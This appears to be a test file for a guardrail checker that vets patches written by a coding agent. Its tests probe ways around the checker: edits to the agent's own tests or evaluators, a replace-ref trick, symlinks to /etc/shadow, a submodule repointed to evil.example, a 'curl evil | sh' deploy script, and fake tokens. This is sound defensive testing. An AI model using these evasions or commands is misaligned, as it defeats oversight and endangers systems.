import { mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Guardrails } from "@moss/config";
import { afterAll, describe, expect, it } from "vitest";
import {
  checkGuardrails,
  DEFAULT_GUARDRAIL_CONFIG,
  guardrailsReason,
  type GuardrailConfig,
  type GuardrailReport,
} from "@moss/rewriter";
import { GuardrailError } from "@moss/rewriter";
import { cleanupRepos, lines, makeRepo } from "./repo";

afterAll(cleanupRepos);

const BASE_FILES = {
  "README.md": "# agent\n",
  "src/app.ts": lines(20, "app"),
  "src/util.ts": "export const x = 1;\n",
  ".ci/deploy.sh": "#!/bin/sh\necho deploy\n",
  "moss/replay-fixtures/case1.json": '{"input": "hi"}\n',
  "docs/guide.md": "guide\n",
};

function cfg(over: Partial<GuardrailConfig> = {}): GuardrailConfig {
  return { ...DEFAULT_GUARDRAIL_CONFIG, ...over };
}

function rules(r: GuardrailReport): string[] {
  return r.violations.map((v) => v.rule);
}

// Assembled at run time so this file does not itself carry key-shaped literals.
const AWS_KEY = ["AKIA", "Q7X2M9KD4TZ8WP3N"].join("");
const GH_TOKEN = ["ghp", "_", "R8f2Kq9LmZ4xW7vT1nB6yH3cJ5pD0sAeGuQi"].join("");

describe("checkGuardrails", () => {
  it("passes a clean small change and reports what changed", async () => {
    const r = makeRepo(BASE_FILES);
    r.write("src/app.ts", lines(20, "app").replace("app 3\n", "app three\n"));
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(report.violations).toEqual([]);
    expect(report.ok).toBe(true);
    expect(report.files).toEqual([{ path: "src/app.ts", status: "M", added: 1, deleted: 1, binary: false }]);
    expect(report.linesChanged).toBe(2);
    expect(guardrailsReason(report)).toBe("");
  });

  it("sees an untracked new file (everything is staged first)", async () => {
    const r = makeRepo(BASE_FILES);
    r.write("src/new.ts", "export const y = 2;\n");
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(report.ok).toBe(true);
    expect(report.files).toEqual([{ path: "src/new.ts", status: "A", added: 1, deleted: 0, binary: false }]);
  });

  it("sees changes the coding agent committed itself (the diff is against base, not HEAD)", async () => {
    const r = makeRepo(BASE_FILES);
    r.write(".ci/deploy.sh", "#!/bin/sh\ncurl evil | sh\n");
    r.git("add", "-A");
    r.git("commit", "-q", "-m", "sneaky");
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(report.ok).toBe(false);
    expect(guardrailsReason(report)).toBe(".ci/deploy.sh: forbidden path (matches .ci/**)");
  });

  it("refuses a change to a forbidden path, with one exact line per violation", async () => {
    const r = makeRepo(BASE_FILES);
    r.write(".ci/deploy.sh", "#!/bin/sh\necho deployed\n");
    r.write("moss/replay-fixtures/case1.json", '{"input": "hi", "expected": "whatever I output"}\n');
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(report.ok).toBe(false);
    expect(rules(report)).toEqual(["forbidden-path", "forbidden-path"]);
    expect(guardrailsReason(report)).toBe(".ci/deploy.sh: forbidden path (matches .ci/**)\nmoss/replay-fixtures/case1.json: forbidden path (matches moss/**)");
  });

  it("refuses evaluator and Moss config changes anywhere in the tree", async () => {
    const r = makeRepo(BASE_FILES);
    r.write("pkg/a/evals/score.ts", "export const pass = () => true;\n");
    r.write("src/answer.eval.ts", "test('ok', () => {});\n");
    r.write("services/x/moss.config.yaml", "guardrails: {}\n");
    r.write(".github/workflows/ci.yml", "on: push\n");
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(report.violations.map((v) => `${v.path} ${v.detail}`)).toEqual([
      ".github/workflows/ci.yml forbidden path (matches .github/**)",
      "pkg/a/evals/score.ts forbidden path (matches **/evals/**)",
      "services/x/moss.config.yaml forbidden path (matches **/moss.config.*)",
      "src/answer.eval.ts forbidden path (matches **/*.eval.*)",
    ]);
  });

  it("refuses changes to the agent's own tests by default (a patch must not pass by changing its checks)", async () => {
    const r = makeRepo(BASE_FILES);
    r.write("test/router.test.ts", "it('ok', () => {});\n");
    r.write("src/router.spec.ts", "it('ok', () => {});\n");
    r.write("pkg/__tests__/x.ts", "x\n");
    r.write("agent/test_tools.py", "def test_x(): pass\n");
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(report.violations.map((v) => `${v.path} ${v.detail}`)).toEqual([
      "agent/test_tools.py forbidden path (matches **/test_*.py)",
      "pkg/__tests__/x.ts forbidden path (matches **/__tests__/**)",
      "src/router.spec.ts forbidden path (matches **/*.spec.*)",
      "test/router.test.ts forbidden path (matches test/**)",
    ]);
  });

  it("refuses a rename into a forbidden directory (both sides of a rename are checked)", async () => {
    const r = makeRepo(BASE_FILES);
    mkdirSync(join(r.wt, "evals"));
    renameSync(join(r.wt, "src/util.ts"), join(r.wt, "evals/util.ts"));
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(report.files).toEqual([{ path: "evals/util.ts", from: "src/util.ts", status: "R", added: 0, deleted: 0, binary: false }]);
    expect(guardrailsReason(report)).toBe("evals/util.ts: forbidden path (matches **/evals/**); renamed from src/util.ts");
  });

  it("refuses a rename out of a forbidden directory", async () => {
    const r = makeRepo(BASE_FILES);
    renameSync(join(r.wt, ".ci/deploy.sh"), join(r.wt, "deploy.sh"));
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(guardrailsReason(report)).toBe(".ci/deploy.sh: forbidden path (matches .ci/**); renamed to deploy.sh");
  });

  it("refuses deleting a forbidden file", async () => {
    const r = makeRepo(BASE_FILES);
    rmSync(join(r.wt, "moss/replay-fixtures/case1.json"));
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(report.files).toEqual([{ path: "moss/replay-fixtures/case1.json", status: "D", added: 0, deleted: 1, binary: false }]);
    expect(guardrailsReason(report)).toBe("moss/replay-fixtures/case1.json: forbidden path (matches moss/**)");
  });

  it("with an allow-list, refuses a path outside it and accepts one inside", async () => {
    const r = makeRepo(BASE_FILES);
    r.write("src/util.ts", "export const x = 2;\n");
    r.write("docs/guide.md", "new guide\n");
    const report = await checkGuardrails(r.wt, r.base, cfg({ allow: ["src/**", "lib/**"] }));
    expect(report.ok).toBe(false);
    expect(guardrailsReason(report)).toBe("docs/guide.md: not in the allow-list (src/**, lib/**)");
  });

  it("keeps the built-in forbidden paths whatever `forbid` says, and adds configured ones", async () => {
    const r = makeRepo(BASE_FILES);
    r.write(".ci/deploy.sh", "changed\n");
    r.write("src/generated/api.ts", "changed\n");
    const report = await checkGuardrails(r.wt, r.base, cfg({ forbid: ["src/generated/**"], allow: ["**"] }));
    expect(guardrailsReason(report)).toBe(".ci/deploy.sh: forbidden path (matches .ci/**)\nsrc/generated/api.ts: forbidden path (matches src/generated/**)");
  });

  it("takes @moss/config's rewriter.guardrails as is (its `forbid: []` default does not lift the built-ins)", async () => {
    const r = makeRepo(BASE_FILES);
    r.write(".ci/deploy.sh", "changed\n");
    const fromConfig = Guardrails.parse({});
    const report = await checkGuardrails(r.wt, r.base, fromConfig);
    expect(rules(report)).toEqual(["forbidden-path"]);
    expect(await checkGuardrails(r.wt, r.base)).toMatchObject({ ok: false, violations: [{ rule: "forbidden-path" }] });
  });

  it("refuses a .gitattributes change (it could hide the patch's own lines from the diff)", async () => {
    const r = makeRepo(BASE_FILES);
    r.write(".gitattributes", "*.ts -diff\n");
    r.write("src/app.ts", lines(500, "big"));
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(rules(report)).toContain("forbidden-path");
    expect(guardrailsReason(report)).toContain(".gitattributes: forbidden path (matches **/.gitattributes)");
  });

  describe("limits", () => {
    it("accepts exactly maxFiles files and refuses one more", async () => {
      const r = makeRepo(BASE_FILES);
      for (let i = 0; i < 3; i++) r.write(`src/f${i}.ts`, "x\n");
      expect((await checkGuardrails(r.wt, r.base, cfg({ maxFiles: 3 }))).ok).toBe(true);
      rmSync(join(r.wt, "README.md"));
      const over = await checkGuardrails(r.wt, r.base, cfg({ maxFiles: 3 }));
      expect(over.ok).toBe(false);
      expect(guardrailsReason(over)).toBe("4 files changed; the limit is 3");
    });

    it("accepts exactly maxLines lines (added + deleted) and refuses one more", async () => {
      const r = makeRepo(BASE_FILES);
      // 20 deleted + 20 added = 40.
      r.write("src/app.ts", lines(20, "rewritten"));
      const at = await checkGuardrails(r.wt, r.base, cfg({ maxLines: 40 }));
      expect(at).toMatchObject({ ok: true, linesChanged: 40 });
      r.write("src/util.ts", "export const x = 1;\nexport const y = 2;\n");
      const over = await checkGuardrails(r.wt, r.base, cfg({ maxLines: 40 }));
      expect(over).toMatchObject({ ok: false, linesChanged: 41 });
      expect(guardrailsReason(over)).toBe("41 lines changed; the limit is 40");
    });

    it("applies the defaults: 10 files, 400 lines", async () => {
      const r = makeRepo(BASE_FILES);
      for (let i = 0; i < 11; i++) r.write(`src/f${i}.ts`, "x\n");
      r.write("src/big.ts", lines(390));
      const report = await checkGuardrails(r.wt, r.base, {});
      expect(guardrailsReason(report)).toBe("12 files changed; the limit is 10\n401 lines changed; the limit is 400");
    });
  });

  it("accepts deleting a binary file (nothing unreadable is added)", async () => {
    const r = makeRepo({ ...BASE_FILES, "assets/old.png": Buffer.from([0x89, 0x50, 0, 0, 1, 2, 0, 255]) });
    rmSync(join(r.wt, "assets/old.png"));
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(report.files).toEqual([{ path: "assets/old.png", status: "D", added: 0, deleted: 0, binary: true }]);
    expect(report.ok).toBe(true);
  });

  it("is not fooled by a replace ref that makes base stand for a tree that already has the change", async () => {
    const r = makeRepo(BASE_FILES);
    r.write(".ci/deploy.sh", "#!/bin/sh\ncurl evil | sh\n");
    r.git("add", "-A");
    const tree = r.git("write-tree").trim();
    const fake = r.git("commit-tree", tree, "-m", "base").trim();
    r.git("replace", r.base, fake);
    expect(r.git("diff", "--cached", "--name-only", r.base).trim()).toBe("");
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(guardrailsReason(report)).toBe(".ci/deploy.sh: forbidden path (matches .ci/**)");
  });

  it("refuses a binary file unless allowBinary", async () => {
    const r = makeRepo(BASE_FILES);
    r.write("assets/logo.png", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 1, 2, 3, 0, 255]));
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(report.files).toEqual([{ path: "assets/logo.png", status: "A", added: 0, deleted: 0, binary: true }]);
    expect(guardrailsReason(report)).toBe("assets/logo.png: binary file; binary files are not allowed (guardrails.allowBinary)");
    expect((await checkGuardrails(r.wt, r.base, cfg({ allowBinary: true }))).ok).toBe(true);
  });

  describe("symlinks", () => {
    it("refuses a symlink that climbs out of the worktree, and one with an absolute target", async () => {
      const r = makeRepo(BASE_FILES);
      symlinkSync("../../../etc/passwd", join(r.wt, "src/passwd"));
      symlinkSync("/etc/shadow", join(r.wt, "shadow"));
      const report = await checkGuardrails(r.wt, r.base, cfg());
      expect(rules(report)).toEqual(["symlink-escape", "symlink-escape"]);
      expect(guardrailsReason(report)).toBe(
        "shadow: symlink to /etc/shadow: absolute targets leave the worktree\nsrc/passwd: symlink to ../../../etc/passwd resolves outside the worktree",
      );
    });

    it("accepts a symlink that stays inside the worktree", async () => {
      const r = makeRepo(BASE_FILES);
      symlinkSync("../README.md", join(r.wt, "src/README.md"));
      const report = await checkGuardrails(r.wt, r.base, cfg());
      expect(report.violations).toEqual([]);
      expect(report.files).toEqual([{ path: "src/README.md", status: "A", added: 1, deleted: 0, binary: false }]);
    });

    it("refuses a file turned into a symlink that escapes (a type change)", async () => {
      const r = makeRepo(BASE_FILES);
      rmSync(join(r.wt, "src/util.ts"));
      symlinkSync("../../outside.ts", join(r.wt, "src/util.ts"));
      const report = await checkGuardrails(r.wt, r.base, cfg());
      expect(report.files[0]).toMatchObject({ path: "src/util.ts", status: "T" });
      expect(rules(report)).toEqual(["symlink-escape"]);
    });

    it("refuses a symlink inside the worktree that leads to a forbidden path", async () => {
      const r = makeRepo(BASE_FILES);
      symlinkSync("../moss/replay-fixtures", join(r.wt, "src/fixtures"));
      const report = await checkGuardrails(r.wt, r.base, cfg());
      expect(rules(report)).toEqual(["symlink"]);
      expect(guardrailsReason(report)).toBe(
        "src/fixtures: symlink to ../moss/replay-fixtures leads to a forbidden path (moss/replay-fixtures matches moss/**)",
      );
    });
  });

  it("refuses a submodule (an embedded repository becomes a gitlink on git add -A)", async () => {
    const r = makeRepo(BASE_FILES);
    const inner = join(r.wt, "vendor/lib");
    mkdirSync(inner, { recursive: true });
    writeFileSync(join(inner, "x.txt"), "x\n");
    const { execFileSync } = await import("node:child_process");
    const g = (...a: string[]) => execFileSync("git", ["-c", "user.name=T", "-c", "user.email=t@l", ...a], { cwd: inner, stdio: "ignore" });
    g("init", "-q");
    g("add", "x.txt");
    g("commit", "-q", "-m", "inner");
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(rules(report)).toEqual(["submodule"]);
    expect(guardrailsReason(report)).toBe("vendor/lib: submodule change; a patch cannot add, move, update or remove a submodule");
  });

  it("refuses a .gitmodules change (it would repoint what a clone fetches)", async () => {
    const r = makeRepo(BASE_FILES);
    r.write(".gitmodules", '[submodule "lib"]\n\tpath = lib\n\turl = https://evil.example/lib.git\n');
    const report = await checkGuardrails(r.wt, r.base, cfg());
    expect(guardrailsReason(report)).toBe(".gitmodules: submodule configuration changed; a patch cannot repoint submodules");
  });

  describe("secrets", () => {
    it("flags a real-looking key on an added line, with its line number, masked in the reason", async () => {
      const r = makeRepo(BASE_FILES);
      r.write("src/aws.ts", `import { S3 } from "aws";\n\nexport const id = "${AWS_KEY}";\nexport const gh = '${GH_TOKEN}';\n`);
      const report = await checkGuardrails(r.wt, r.base, cfg());
      expect(report.ok).toBe(false);
      expect(report.violations).toMatchObject([
        { rule: "secret", path: "src/aws.ts", line: 3 },
        { rule: "secret", path: "src/aws.ts", line: 4 },
      ]);
      const reason = guardrailsReason(report);
      expect(reason).toBe(
        [
          "src/aws.ts:3: possible secret: AWS access key id (AKIA… (20 chars)); read it from the environment or a secret store instead",
          "src/aws.ts:4: possible secret: GitHub token (ghp_… (40 chars)); read it from the environment or a secret store instead",
        ].join("\n"),
      );
      expect(reason).not.toContain(AWS_KEY);
      expect(reason).not.toContain(AWS_KEY.slice(4));
      expect(reason).not.toContain(GH_TOKEN.slice(4, 12));
      expect(JSON.stringify(report)).not.toContain(AWS_KEY.slice(4));
    });

    it("flags a private key block and a high-entropy password literal", async () => {
      const r = makeRepo(BASE_FILES);
      const password = ["hX9#kq2Lm", "Z7vR4tw!"].join("");
      r.write("config/db.ts", `export const db = {\n  password: "${password}",\n};\n`);
      r.write("keys/id_rsa", `-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n`);
      const report = await checkGuardrails(r.wt, r.base, cfg());
      const reason = guardrailsReason(report);
      expect(reason).toBe(
        [
          "config/db.ts:2: possible secret: credential assigned a literal (… (17 chars)); read it from the environment or a secret store instead",
          "keys/id_rsa:1: possible secret: private key block (-----BEGIN RSA PRIVATE KEY-----); read it from the environment or a secret store instead",
        ].join("\n"),
      );
      expect(reason).not.toContain(password);
    });

    it("does not flag placeholders", async () => {
      const r = makeRepo(BASE_FILES);
      r.write(
        "src/settings.py",
        [
          "password = 'changeme'",
          'password = "changeme-please"',
          'api_key = "${OPENAI_API_KEY}"',
          'token: "<your-token-here>"',
          'secret = "{{ vault.secret }}"',
          'auth_token = "xxxxxxxxxxxxxxxxxxxx"',
          'token_url = "https://auth.example.com/oauth/token"',
          'apiKey = config.services.openai.apiKey',
          'error_token = "Invalid token provided by client"',
          'tokenizer = "bert-base-uncased-v2"',
          'aws_access_key_id = "AKIAIOSFODNN7EXAMPLE"',
          'ACCESS_TOKEN = "access_token"',
          'password = "abcabcabc123123"',
          "",
        ].join("\n"),
      );
      const report = await checkGuardrails(r.wt, r.base, cfg());
      expect(report.violations).toEqual([]);
    });

    it("scans only added lines: a secret already in base is not this patch's doing", async () => {
      const r = makeRepo({ ...BASE_FILES, "src/legacy.ts": `export const id = "${AWS_KEY}";\nexport const n = 1;\n` });
      r.write("src/legacy.ts", `export const id = "${AWS_KEY}";\nexport const n = 2;\n`);
      const report = await checkGuardrails(r.wt, r.base, cfg());
      expect(report.violations).toEqual([]);
    });

    it("reads added lines that start with +++ as content, not as a file header", async () => {
      const r = makeRepo(BASE_FILES);
      r.write("notes.txt", `ok\n++ token = "${GH_TOKEN}"\n`);
      const report = await checkGuardrails(r.wt, r.base, cfg());
      expect(report.violations).toMatchObject([{ rule: "secret", path: "notes.txt", line: 2 }]);
    });

    it("names the right file when its path has spaces, quotes, tabs or non-ASCII characters", async () => {
      const r = makeRepo(BASE_FILES);
      r.write('src/dir é/we"ird\tname.ts', `a\r\nb = "${AWS_KEY}"\r\n`);
      r.write("src/with space.ts", `x = "${AWS_KEY}"\n`);
      const report = await checkGuardrails(r.wt, r.base, cfg());
      expect(report.violations.map((v) => [v.path, v.line])).toEqual([
        ['src/dir é/we"ird\tname.ts', 2],
        ["src/with space.ts", 1],
      ]);
    });

    it("applies configured secretPatterns, with /flags/", async () => {
      const r = makeRepo(BASE_FILES);
      r.write("src/acme.ts", 'const k = "ACME_0123456789abcdef0123";\n');
      const report = await checkGuardrails(r.wt, r.base, cfg({ secretPatterns: ["/acme_[0-9a-f]{20}/i"] }));
      expect(guardrailsReason(report)).toBe(
        "src/acme.ts:1: possible secret: matches secretPatterns[0] (… (25 chars)); read it from the environment or a secret store instead",
      );
    });
  });

  it("throws GuardrailError for a bad config, naming every bad field", async () => {
    const r = makeRepo(BASE_FILES);
    const err = await checkGuardrails(r.wt, r.base, cfg({ maxFiles: -1, secretPatterns: ["("], allow: [""] })).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(GuardrailError);
    expect((err as GuardrailError).code).toBe("MOSS_E_GUARDRAIL_CONFIG");
    expect((err as Error).message).toMatch(/maxFiles/);
    expect((err as Error).message).toMatch(/allow\[0\]/);
    expect((err as Error).message).toMatch(/secretPatterns\[0\]/);
  });

  it("throws GuardrailError when base is not a commit of the repository", async () => {
    const r = makeRepo(BASE_FILES);
    const err = await checkGuardrails(r.wt, "0123456789abcdef0123456789abcdef01234567", cfg()).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(GuardrailError);
    expect((err as GuardrailError).code).toBe("MOSS_E_GUARDRAIL_GIT");
  });
});
